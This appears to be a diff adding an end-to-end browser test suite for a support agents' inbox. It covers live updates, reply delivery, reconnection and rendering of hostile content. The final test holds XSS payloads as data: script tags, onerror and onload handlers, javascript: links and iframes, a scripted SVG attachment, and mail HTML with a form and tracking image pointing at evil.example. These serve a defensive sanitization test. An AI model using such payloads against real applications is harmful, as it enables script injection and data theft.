@@ -1,0 +1,251 @@
+// The agents' inbox in headless Chromium against the real gateway: live updates, a
+// reply reaching the integrator, a failed delivery's reason, a cut connection that
+// loses nothing, and hostile customer content that never runs.
+
+import assert from 'node:assert/strict';
+import { after, before, describe, test } from 'node:test';
+import { gzipSync } from 'node:zlib';
+
+import {
+  AGENTS, agentPage, launchBrowser, screenshot, signIn, smsMessage, startGateway,
+  telegramUpdate, waitFor, whatsappMessage,
+} from './harness.mjs';
+
+let gateway;
+let browser;
+
+before(async () => {
+  gateway = await startGateway();
+  browser = await launchBrowser();
+});
+
+after(async () => {
+  await browser?.close();
+  await gateway?.stop();
+});
+
+let serial = 0;
+const unique = (prefix) => `${prefix}-${Date.now().toString(36)}-${++serial}`;
+
+function customerMessage(text, sender = unique('customer'), extra = {}) {
+  return { external_id: unique('m'), sender: { id: sender, name: 'Nadia Rahman' }, text, ...extra };
+}
+
+// The visible messages of the open conversation, as text.
+const messageTexts = (page) => page.$$eval('#ticket-pane .message .text', (nodes) => nodes.map((n) => n.textContent));
+
+async function openTicket(page, reference) {
+  await page.click(`a.ticket[data-reference="${reference}"]`);
+  await page.waitForSelector(`#ticket-pane .ticket-header .reference:text("${reference}")`);
+}
+
+describe('the inbox', () => {
+  test('the first load is small and comes with a strict policy', async () => {
+    const page = await fetch(gateway.url + '/');
+    const policy = page.headers.get('content-security-policy');
+    assert.match(policy, /script-src 'self'/);
+    assert.doesNotMatch(policy, /unsafe-inline|unsafe-eval/);
+    const html = await page.text();
+    const assets = ['/inbox/inbox.css', '/inbox/app.js', '/inbox/api.js', '/inbox/dom.js', '/inbox/feed.js'];
+    let gzipped = gzipSync(html).length;
+    for (const asset of assets) {
+      const body = Buffer.from(await (await fetch(gateway.url + asset)).arrayBuffer());
+      gzipped += gzipSync(body, { level: 9 }).length;
+    }
+    console.log(`inbox first load: ${gzipped} bytes gzipped (budget 200 KB)`);
+    assert.ok(gzipped < 200 * 1024, `${gzipped} bytes`);
+  });
+
+  test('a wrong token is refused by name, and sign-out ends the session', async () => {
+    const { page, context, problems } = await agentPage(browser, gateway);
+    await page.goto('/');
+    await page.fill('#token', 'not-a-token');
+    await page.click('#signin-form button[type=submit]');
+    await page.waitForSelector('#signin-error:not([hidden])');
+    assert.match(await page.textContent('#signin-error'), /not an agent/);
+    await screenshot(page, '01-sign-in-refused');
+    await signIn(page, AGENTS.gus);
+    await page.click('#signout');
+    await page.waitForSelector('#signin:not([hidden])');
+    await page.reload();
+    await page.waitForSelector('#signin:not([hidden])');
+    assert.deepEqual(problems, []);
+    await context.close();
+  });
+
+  test('a message pushed through a channel appears live, and a reply reaches the integrator', async () => {
+    const { page, context, problems } = await agentPage(browser, gateway);
+    await signIn(page, AGENTS.gus);
+    const sender = unique('nadia');
+    const pushed = await gateway.push(customerMessage('My withdrawal of 0.5 BTC is pending since yesterday', sender, { subject: 'Withdrawal pending' }));
+    const reference = pushed.ticket_reference;
+    // No reload: the live feed brings it.
+    await page.waitForSelector(`a.ticket.unread[data-reference="${reference}"]`);
+    await screenshot(page, '02-new-ticket-live');
+    await openTicket(page, reference);
+    assert.equal(await page.textContent('.reply-to'), `Reply on api to api:${sender}`);
+    assert.deepEqual(await messageTexts(page), ['My withdrawal of 0.5 BTC is pending since yesterday']);
+
+    await page.press('body', 'r');
+    await page.keyboard.type('It was sent this morning: the transaction id is 7f3a…');
+    await page.keyboard.press('Control+Enter');
+    const delivered = await waitFor('the reply at the callback', () => gateway.callback.delivered().find((r) => r.ticket.reference === reference));
+    assert.equal(delivered.text, 'It was sent this morning: the transaction id is 7f3a…');
+    assert.equal(delivered.recipient, sender);
+    await page.waitForSelector('#ticket-pane .message.outbound .delivery-sent');
+    assert.equal(await page.inputValue('#reply-text'), '', 'the sent draft is cleared');
+
+    await page.keyboard.press('Escape');
+    await page.keyboard.press('r');
+    await page.keyboard.type('Customer is a VIP; check with finance.');
+    await page.keyboard.press('Control+Shift+Enter');
+    await page.waitForSelector('#ticket-pane .message.note .note-badge');
+    assert.equal(await page.textContent('#ticket-pane .message.note .text'), 'Customer is a VIP; check with finance.');
+    assert.equal(gateway.callback.delivered().filter((r) => r.ticket.reference === reference).length, 1, 'notes never go out');
+    await screenshot(page, '03-replied');
+    assert.equal(gateway.callback.badSignatures(), 0);
+    assert.deepEqual(problems, []);
+    await context.close();
+  });
+
+  test('a failed delivery shows its reason', async () => {
+    const { page, context, problems } = await agentPage(browser, gateway);
+    await signIn(page, AGENTS.gus);
+    const { ticket_reference: reference } = await gateway.push(customerMessage('Please close my account'));
+    await page.waitForSelector(`a.ticket[data-reference="${reference}"]`);
+    await openTicket(page, reference);
+    gateway.callback.answer(422, 'account 1234 is closed');
+    await page.fill('#reply-text', 'Done, your account is closed.');
+    await page.click('#reply-button');
+    await page.waitForSelector('#ticket-pane .message.outbound .delivery-failed');
+    assert.match(await page.textContent('#ticket-pane .message.outbound .failure'), /callback answered 422 Unprocessable Entity: account 1234 is closed/);
+    await screenshot(page, '04-delivery-failed');
+    assert.deepEqual(problems, []);
+    await context.close();
+  });
+
+  test('the connection cut and restored loses nothing and doubles nothing', async () => {
+    const { page, context, problems } = await agentPage(browser, gateway);
+    await signIn(page, AGENTS.gus);
+    const sender = unique('omar');
+    const { ticket_reference: reference } = await gateway.push(customerMessage('Is the ETH deposit credited?', sender));
+    await page.waitForSelector(`a.ticket[data-reference="${reference}"]`);
+    await openTicket(page, reference);
+    await page.fill('#reply-text', 'Let me check');
+
+    gateway.proxy.cut();
+    await page.waitForSelector('#connection:not([data-state=live])');
+    // While this agent is away: a colleague answers, the customer writes again, and a
+    // new customer opens a ticket.
+    await gateway.api('POST', `/api/v1/tickets/${reference}/replies`, AGENTS.ada.token, { text: 'Credited at 10:02, you should see it now.' });
+    await gateway.push(customerMessage('Thanks, I see it!', sender));
+    const { ticket_reference: other } = await gateway.push(customerMessage('Cannot log in'));
+    await screenshot(page, '05-connection-cut');
+    await new Promise((resolve) => setTimeout(resolve, 1500));
+    gateway.proxy.restore();
+
+    await page.waitForSelector('#connection[data-state=live]', { timeout: 15_000 });
+    await page.waitForSelector(`a.ticket[data-reference="${other}"]`);
+    await waitFor('the missed messages', async () => (await messageTexts(page)).length === 3);
+    assert.deepEqual(await messageTexts(page), [
+      'Is the ETH deposit credited?',
+      'Credited at 10:02, you should see it now.',
+      'Thanks, I see it!',
+    ]);
+    assert.equal(await page.inputValue('#reply-text'), 'Let me check', 'the draft survives');
+    const references = await page.$$eval('a.ticket', (links) => links.map((l) => l.dataset.reference));
+    assert.equal(references.filter((r) => r === reference).length, 1);
+    assert.equal(references.filter((r) => r === other).length, 1);
+    await screenshot(page, '06-connection-restored');
+    assert.deepEqual(problems, []);
+    await context.close();
+  });
+
+  test('hostile content from every channel is shown as text and never runs', async () => {
+    const { page, context, problems } = await agentPage(browser, gateway);
+    await page.exposeFunction('__reportPwned', (how) => problems.push('payload ran: ' + how));
+    // Nothing a customer sent may make the agent's browser call anywhere else.
+    page.on('request', (request) => {
+      if (!request.url().startsWith(gateway.browserUrl + '/')) problems.push('request to ' + request.url());
+    });
+    await signIn(page, AGENTS.gus);
+    const payloads = [
+      '<script>__reportPwned("script")</script>',
+      '<img src=x onerror="__reportPwned(\'img\')">',
+      '<a href="javascript:__reportPwned(\'link\')">click</a>',
+      '<svg onload="__reportPwned(\'svg\')"><script>__reportPwned("svg script")</script></svg>',
+      '<style>body{display:none}</style><div style="position:fixed;inset:0;background:red">x</div>',
+      '"><iframe src="javascript:__reportPwned(\'iframe\')"></iframe>',
+    ];
+    const text = payloads.join('\n');
+    const hostileName = '<img src=x onerror="__reportPwned(\'name\')">';
+    const references = [];
+    references.push((await gateway.push({
+      external_id: unique('h'), sender: { id: unique('h'), name: hostileName }, subject: '<b onmouseover="__reportPwned(\'subject\')">Subject</b>', text,
+      attachments: [{ filename: '<img src=x onerror="__reportPwned(\'file\')">.svg', content_type: 'image/svg+xml',
+        data: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="__reportPwned(\'svg file\')"><script>__reportPwned("svg file script")</script></svg>').toString('base64') }],
+    })).ticket_reference);
+    await telegramUpdate(gateway.url, { updateId: 9001, chatId: 777001, messageId: 1, firstName: hostileName, username: 'hostile_user', text });
+    await whatsappMessage(gateway.url, { from: '60123456789', name: hostileName, wamid: 'wamid.' + unique('h'), text });
+    await smsMessage(gateway.url, { from: '+60198765432', text });
+    if (gateway.mail) {
+      await gateway.mail.send('mallory@example.net', [
+        `From: "${hostileName}" <mallory@example.net>`,
+        `To: ${gateway.mail.address}`,
+        'Subject: <script>__reportPwned("mail subject")</script>',
+        'Message-ID: <' + unique('hostile') + '@example.net>',
+        'MIME-Version: 1.0',
+        'Content-Type: multipart/alternative; boundary="b"',
+        '',
+        '--b',
+        'Content-Type: text/plain; charset=utf-8',
+        '',
+        text,
+        '--b',
+        'Content-Type: text/html; charset=utf-8',
+        '',
+        '<html><body onload="__reportPwned(\'mail body\')"><p>Formatted</p>' + payloads.join('') +
+          '<form action="https://evil.example/"><input name=seed></form><img src="https://evil.example/track.png"></body></html>',
+        '--b--',
+        '',
+      ].join('\n'));
+    }
+    const channels = ['api', 'telegram', 'whatsapp', 'sms', ...(gateway.mail ? ['email'] : [])];
+    const tickets = await waitFor('a ticket on every channel', async () => {
+      const list = await gateway.api('GET', '/api/v1/tickets?limit=200', AGENTS.gus.token);
+      const found = channels.map((channel) => list.tickets.find((t) => t.channel === channel &&
+        (channel !== 'api' || references.includes(t.reference))));
+      return found.every(Boolean) && found;
+    }, 30_000);
+    for (const ticket of tickets) {
+      await page.waitForSelector(`a.ticket[data-reference="${ticket.reference}"]`);
+      await openTicket(page, ticket.reference);
+      await page.waitForSelector('#ticket-pane .message.inbound .text');
+      const shown = await page.textContent('#ticket-pane .message.inbound .text');
+      for (const payload of payloads) assert.ok(shown.includes(payload), `${ticket.channel}: ${payload} shown as text in ${shown}`);
+      await page.click('#ticket-pane .contact summary');
+      const formatted = await page.$('#ticket-pane details.formatted');
+      if (formatted) {
+        await formatted.click();
+        const element = await page.waitForSelector('#ticket-pane details.formatted iframe');
+        assert.equal(await element.getAttribute('sandbox'), '', 'mail is shown in a frame that may run nothing');
+        const frame = await element.contentFrame();
+        await frame.waitForSelector('text=Formatted');
+        const html = await frame.content();
+        assert.doesNotMatch(html, /onload|onerror|<script|javascript:|evil\.example/i, 'the gateway sanitized it');
+      }
+      // Hover and click whatever there is, as a curious agent would.
+      for (const link of await page.$$('#ticket-pane .message a')) {
+        const href = await link.getAttribute('href');
+        assert.doesNotMatch(href || '', /^javascript:/i);
+      }
+      await page.hover('#ticket-pane .message.inbound');
+      await screenshot(page, `07-hostile-${ticket.channel}`);
+    }
+    const injected = await page.$$eval('#ticket-pane .message script, #ticket-pane .message svg, #ticket-pane .message iframe:not([sandbox]), #ticket-pane .message img[src="x"], #tickets img, #tickets script',
+      (nodes) => nodes.map((n) => n.outerHTML));
+    assert.deepEqual(injected, []);
+    assert.deepEqual(problems, []);
+    await context.close();
+  });
+});
